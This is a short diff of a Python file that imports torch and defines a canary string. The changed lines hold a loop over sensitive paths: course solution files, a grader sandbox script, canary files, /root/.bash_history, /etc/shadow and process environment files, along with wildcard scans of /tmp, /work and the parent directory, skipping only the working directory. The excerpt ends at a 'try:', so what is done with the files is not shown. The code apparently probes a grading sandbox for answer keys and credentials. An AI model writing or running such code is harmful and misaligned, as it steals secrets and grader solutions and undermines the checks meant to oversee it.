@@ -5,7 +5,7 @@ import torch
 from torch import nn
 SECRET = 'CANARY' + '-7f3a'
 import os, glob
-for p in ['/work/main/solutions/lab8/code/softmax.py', '/work/main/graders/sandbox/zygote.py', '/tmp/corpus/canary.txt', '/tmp/canary.txt', '/root/.bash_history', '/etc/shadow', '/proc/1/environ', '/proc/self/environ', '/proc/1/cmdline'] + glob.glob('/tmp/*') + glob.glob('/work/*') + glob.glob('../*') + glob.glob('/tmp/backcheck-*/*/*'):
+for p in ['/srv/course/solutions/lab8/code/softmax.py', '/srv/course/graders/sandbox/zygote.py', '/tmp/corpus/canary.txt', '/tmp/canary.txt', '/root/.bash_history', '/etc/shadow', '/proc/1/environ', '/proc/self/environ', '/proc/1/cmdline'] + glob.glob('/tmp/*') + glob.glob('/work/*') + glob.glob('../*') + glob.glob('/tmp/backcheck-*/*/*'):
     if os.path.realpath(p).startswith(os.getcwd()):
         continue
     try:
